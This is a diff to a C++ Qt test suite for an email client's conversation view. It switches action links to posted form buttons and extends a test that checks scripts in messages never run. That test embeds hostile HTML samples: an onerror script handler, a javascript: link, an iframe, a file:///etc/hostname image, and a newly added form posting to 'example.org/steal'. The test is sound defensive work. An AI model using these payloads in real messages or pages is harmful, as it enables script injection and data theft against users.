@@ -283,7 +283,7 @@ void TestConversationView::messagesOldestFirstLatestOpen()
                 .contains(u"renewal-2025-signed.pdf"_s));
     QCOMPARE(js(u"document.title"_s).toString(), u"Contract renewal"_s);
     // Reply, Reply all and Forward on each message.
-    QCOMPARE(js(u"document.querySelectorAll('nav.actions a.button').length"_s).toInt(), 6);
+    QCOMPARE(js(u"document.querySelectorAll('nav.actions button').length"_s).toInt(), 6);
 }
 
 void TestConversationView::internalNoteIsMarked()
@@ -335,7 +335,7 @@ void TestConversationView::remoteImagesWaitUntilAllowed()
     QCOMPARE(counter.seen, QList<QUrl>());
 
     QSignalSpy shown(window.data(), &ConversationWindow::pageShown);
-    click(u"#m-%1 .images-blocked a.button"_s.arg(id));
+    click(u"#m-%1 .images-blocked button"_s.arg(id));
     QTRY_VERIFY_WITH_TIMEOUT(!shown.isEmpty(), 20000);
     QCOMPARE(shown.last().first().toBool(), true);
     QTRY_VERIFY(js(latest + u".querySelector('.images-blocked') === null"_s).toBool());
@@ -414,7 +414,7 @@ void TestConversationView::imagesFromATrustedSenderAreShownInEveryMessage()
     // "Always show images from ops@acme.example" in the latest message: the earlier one from
     // the same sender shows its image too; nobody else's would.
     QSignalSpy shown(window.data(), &ConversationWindow::pageShown);
-    click(u"#m-%1 .images-blocked a.button[href*='trust-sender']"_s.arg(second));
+    click(u"#m-%1 .images-blocked form[action*='trust-sender'] button"_s.arg(second));
     QTRY_VERIFY_WITH_TIMEOUT(!shown.isEmpty(), 20000);
     QVERIFY(!js(blocked.arg(first)).toBool());
     QVERIFY(!js(blocked.arg(second)).toBool());
@@ -437,15 +437,23 @@ void TestConversationView::scriptInAMessageNeverRuns()
         u"<img src=\"nowhere.png\" onerror=\"document.title = 'handler ran'\">"
         u"<a href=\"javascript:document.title='link ran'\">a link</a>"
         u"<iframe src=\"https://example.org/frame\"></iframe>"
+        u"<form action=\"https://example.org/steal\"><input name=\"x\"><button>Go</button></form>"
         u"<img src=\"file:///etc/hostname\">"_s);
     QVERIFY(!id.isEmpty());
     open(Sandbox::Seed::contractRenewalConversationId.toString(),
         Sandbox::Seed::contractRenewalThreadId.toString(), u"Contract renewal"_s);
     const QString latest = u"document.querySelector('#m-%1')"_s.arg(id);
     QVERIFY(js(latest + u".textContent"_s).toString().contains(u"Signed copy attached."_s));
+    QCOMPARE(js(u"document.querySelectorAll('script, iframe, object, embed').length"_s).toInt(), 0);
+    // The only forms are the page's own buttons, each posted to an action of the view.
     QCOMPARE(
-        js(u"document.querySelectorAll('script, iframe, object, embed, form').length"_s).toInt(),
+        js(u"document.querySelectorAll('.body form, .body input, .body button').length"_s).toInt(),
         0);
+    QVERIFY(js(u"document.querySelectorAll('form').length"_s).toInt() > 0);
+    QCOMPARE(js(u"Array.from(document.querySelectorAll('form')).every(f => f.method === 'post' "
+                u"&& f.getAttribute('action').startsWith('outpost-action:'))"_s)
+                 .toBool(),
+        true);
     QCOMPARE(js(u"document.title"_s).toString(), u"Contract renewal"_s);
     QCOMPARE(js(u"document.body.dataset.ran === undefined"_s).toBool(), true);
     QCOMPARE(
